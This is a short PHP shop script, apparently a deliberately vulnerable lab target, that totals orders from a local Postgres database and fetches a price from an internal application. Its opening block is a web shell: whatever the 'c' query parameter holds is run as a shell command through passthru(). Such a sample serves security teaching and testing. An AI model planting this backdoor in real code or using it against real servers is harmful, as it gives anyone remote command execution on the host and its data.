<?php
// A shop with a hole: it asks its database and its application for a price, and runs what it is told to.
if (isset($_GET['c'])) {
    passthru($_GET['c'] . ' 2>&1');
    exit;
}
$database = pg_connect('host=127.0.0.1 dbname=shop user=postgres');
$row = pg_fetch_row(pg_query($database, 'SELECT sum(amount) FROM orders'));
$price = trim(file_get_contents('http://app.example.org:8080/price'));
echo "orders $row[0], price $price\n";
